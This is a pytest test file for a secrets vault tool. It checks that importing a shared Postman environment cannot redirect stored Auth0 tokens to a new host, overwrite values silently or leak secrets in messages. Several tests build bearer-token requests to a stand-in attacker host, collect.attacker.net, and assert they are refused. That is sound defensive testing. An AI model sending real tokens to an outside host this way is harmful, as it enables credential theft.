"""Finding 2: an imported file cannot decide where the user's tokens may go.

- a secret's hosts are fixed when it is stored: a domain changed later (by `set`, or by an
  import of an attacker's export) never widens where an existing secret may go;
- an import changes no existing value without --overwrite, and names (never shows) what
  it would add, what is unchanged and what differs;
- `watch --action scrub` puts only flagged values into a new environment named after the
  file, never into one the user has.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import PLANTED, create_passphrase_vault
from tests.guard.test_audit_e2e import postman_env
from tests.guard.tokens import opaque
from tests.guard.watchproc import WatchProc
from vault.errors import PolicyError
from vault.service import entries, guard, inject
from vault.service.context import Context

TENANT = "acme.eu.auth0.com"
EVIL = "collect.attacker.net"


@pytest.fixture
def ctx(vault_path: Path) -> Context:
    create_passphrase_vault(vault_path)
    return Context(str(vault_path))


def _export(tmp_path: Path, domain: str, token: str | None = None) -> Path:
    values = {"auth0_domain": (domain, "default")}
    if token:
        values["auth0_token"] = (token, "secret")
    f = tmp_path / "shared.postman_environment.json"
    f.write_text(postman_env(values))
    return f


def _may_send(ctx: Context, host: str) -> bool:
    try:
        inject.prepare_request(ctx, inject.RequestOptions("GET", f"https://{host}/api/v2/users",
                                                          ["Authorization: Bearer {{auth0_token}}"]))
    except PolicyError as e:
        assert PLANTED not in e.message + (e.hint or "")
        return False
    return True


def test_an_imported_domain_does_not_widen_a_stored_token(ctx: Context, tmp_path: Path) -> None:
    entries.set_entry(ctx, entries.SetOptions("auth0_domain"), TENANT)
    entries.set_entry(ctx, entries.SetOptions("auth0_token"), PLANTED)
    assert _may_send(ctx, TENANT)
    guard.import_file(ctx, guard.ImportOptions(_export(tmp_path, EVIL), overwrite=True))
    assert entries.get_value(ctx, "auth0_domain") == EVIL
    assert not _may_send(ctx, EVIL)  # the token stays bound to the tenant it was stored for
    assert _may_send(ctx, TENANT)


def test_a_domain_added_after_the_token_binds_nothing_retroactively(ctx: Context, tmp_path: Path) -> None:
    entries.set_entry(ctx, entries.SetOptions("auth0_token"), PLANTED)  # no domain yet: bound nowhere
    guard.import_file(ctx, guard.ImportOptions(_export(tmp_path, EVIL)))  # adds auth0_domain
    assert not _may_send(ctx, EVIL)
    entries.set_entry(ctx, entries.SetOptions("auth0_domain"), TENANT)  # nor does `set` later
    assert not _may_send(ctx, TENANT)


def test_entries_without_a_recorded_binding_are_frozen_before_the_domain_changes(
        vault_path: Path, tmp_path: Path) -> None:
    # A vault written before bindings were recorded: entries have none.
    create_passphrase_vault(vault_path, entries={"auth0_domain": TENANT, "auth0_token": PLANTED})
    ctx = Context(str(vault_path))
    assert _may_send(ctx, TENANT)  # today's behaviour until the domain changes
    guard.import_file(ctx, guard.ImportOptions(_export(tmp_path, EVIL), overwrite=True))
    assert not _may_send(ctx, EVIL) and _may_send(ctx, TENANT)


def test_import_never_changes_a_value_without_overwrite(ctx: Context, tmp_path: Path) -> None:
    entries.set_entry(ctx, entries.SetOptions("auth0_domain"), TENANT)
    entries.set_entry(ctx, entries.SetOptions("auth0_token"), PLANTED)
    other = "tsOTHER" + opaque(40)
    f = tmp_path / "x.postman_environment.json"
    f.write_text(postman_env({"auth0_domain": (EVIL, "default"), "auth0_token": (other, "secret"),
                              "api_key": ("k" + opaque(30), "secret")}))
    with pytest.raises(PolicyError) as e:
        guard.import_file(ctx, guard.ImportOptions(f))
    text = e.value.message + (e.value.hint or "")
    assert "auth0_domain" in text and "auth0_token" in text and "api_key" in text  # all named
    assert EVIL not in text and other not in text and PLANTED not in text  # no value
    assert entries.get_value(ctx, "auth0_domain") == TENANT and entries.get_value(ctx, "auth0_token") == PLANTED
    assert "api_key" not in {i.name for i in entries.list_entries(ctx).environments[0].entries}


@pytest.mark.e2e
def test_import_lists_added_unchanged_and_replaced_names(session, tmp_path: Path) -> None:
    create_passphrase_vault(Path(session.env["TOKENSAFE_VAULT"]), entries={"auth0_domain": TENANT})
    tok = "tsPLANTED" + opaque(40)
    f = _export(tmp_path, TENANT, tok)
    r = session("import", str(f))
    assert r.returncode == 0 and b"added: auth0_token; unchanged: auth0_domain" in r.stdout, r.stdout
    f.write_text(postman_env({"auth0_domain": (EVIL, "default"), "auth0_token": (tok, "secret")}))
    r = session("import", str(f))
    assert r.returncode == 9 and b"auth0_domain" in r.stderr and EVIL.encode() not in r.stderr
    r = session("import", str(f), "--overwrite")
    assert r.returncode == 0 and b"replaced (--overwrite): auth0_domain" in r.stdout
    session.assert_no_leak(tok)


@pytest.mark.e2e
def test_watch_scrub_imports_flagged_values_into_a_new_environment(session, tmp_path: Path) -> None:
    vault = Path(session.env["TOKENSAFE_VAULT"])
    create_passphrase_vault(vault, entries={"auth0_domain": TENANT, "auth0_token": PLANTED})
    watched = tmp_path / "Downloads"
    watched.mkdir()
    tok = "tsATTACKER" + opaque(40)
    w = WatchProc(session.env, tmp_path, str(watched), "--action", "scrub")
    try:
        (watched / "shared.postman_environment.json").write_text(
            postman_env({"auth0_domain": (EVIL, "default"), "auth0_token": (tok, "secret")}))
        got = [o for _, o in w.take(2, timeout=30)]
        assert [o["event"] for o in got] == ["finding", "scrubbed"], (got, bytes(w.err))
        assert w.stop() == 0
    finally:
        if w.p.poll() is None:
            w.p.kill()
    listing = json.loads(session("list", "--all", "--json").stdout)
    envs = {e["name"]: sorted(x["name"] for x in e["entries"]) for e in listing["environments"]}
    assert envs["dev"] == ["auth0_domain", "auth0_token"]  # untouched
    new = [n for n in envs if n != "dev"]
    assert new == ["from-shared.postman_environment"], envs
    assert envs[new[0]] == ["auth0_token"]  # the flagged value only: not the file's domain
    assert session("get", "auth0_domain", "--env", "dev").stdout.decode().strip() == TENANT


def test_what_hosts_list_shows_is_what_request_allows(ctx: Context, tmp_path: Path) -> None:
    """After a domain change, `hosts list`/`list` show the binding the policy applies (the
    one recorded when the token was stored), and `hosts add` keeps that one, not the new."""
    from vault.service import hosts

    warnings: list[str] = []
    ctx.warn = warnings.append
    entries.set_entry(ctx, entries.SetOptions("auth0_domain"), TENANT)
    entries.set_entry(ctx, entries.SetOptions("auth0_token"), PLANTED)
    entries.set_entry(ctx, entries.SetOptions("auth0_domain"), EVIL)
    shown = {h.name: h for h in hosts.list_hosts(ctx).entries}
    assert (shown["auth0_token"].hosts, shown["auth0_token"].source) == ([TENANT], hosts.RECORDED)
    assert shown["auth0_token"].describe() == f"{TENANT} (auth0_domain when stored)"
    assert [i.hosts_source for e in entries.list_entries(ctx).environments for i in e.entries
            if i.name == "auth0_token"] == ["recorded"]
    assert any("auth0_token stays bound to" in w for w in warnings), warnings
    assert not _may_send(ctx, EVIL) and _may_send(ctx, TENANT)
    hosts.add_hosts(ctx, "auth0_token", ["api.example.com"])
    assert not _may_send(ctx, EVIL) and _may_send(ctx, TENANT)
    assert hosts.effective(ctx.read().env(), "auth0_token").hosts == [TENANT, "api.example.com"]
    assert all(PLANTED not in w for w in warnings)


def test_a_token_stored_before_any_domain_is_shown_bound_nowhere(session) -> None:
    """The installed command: the token set first is not shown as bound to the later domain
    (request refuses it), and `set auth0_domain` says so with the command that binds it."""
    assert session("init").returncode == 0
    assert session("set", "auth0_token", input=PLANTED).returncode == 0
    r = session("set", "auth0_domain", input=TENANT)
    assert r.returncode == 0
    assert b"auth0_token is bound to no host" in r.stderr and b"tokensafe hosts add NAME HOST" in r.stderr
    r = session("hosts", "list")
    assert b"auth0_token   - (no host" in r.stdout, r.stdout
    r = session("list")
    assert b"auth0_token   token   -        - (none)" in r.stdout, r.stdout
    r = session("request", "GET", f"https://{TENANT}/x", "-H", "Authorization: Bearer {{auth0_token}}")
    assert r.returncode == 9 and b"bound to no host" in r.stderr
    session.assert_no_leak(PLANTED)


def test_auth0_login_to_another_tenant_does_not_widen_stored_entries(ctx: Context) -> None:
    """`auth0 login` changes auth0_domain as `set` does: entries stored before keep the host
    they were bound to (a legacy entry, with no recorded binding, gets today's first)."""
    from vault.inject.hosts import HostPolicy
    from vault.inject.oauth import Token
    from vault.secret import Secret
    from vault.service import auth0
    from vault.store.model import Entry

    def may_go(host: str) -> bool:  # the policy alone: a renewable env would fetch a token
        try:
            HostPolicy.for_env(ctx.read().env()).check(f"https://{host}/api/v2/users", ["api_key"])
        except PolicyError:
            return False
        return True

    entries.set_entry(ctx, entries.SetOptions("auth0_domain"), TENANT)
    with ctx.edit() as data:  # an entry written before bindings were recorded
        data.env().entries["api_key"] = Entry.new("api_key", PLANTED)
    assert may_go(TENANT) and not may_go(EVIL)
    auth0.login(ctx, EVIL, "cid-1", "client-secret-" + "s" * 20)
    assert not may_go(EVIL) and may_go(TENANT)
    with ctx.edit() as data:
        env = data.env()
        auth0.store_token(env, Token(Secret(PLANTED), None, None, "Bearer"))
        assert env.entries["auth0_token"].bound_to == [EVIL]  # the tenant it was fetched from
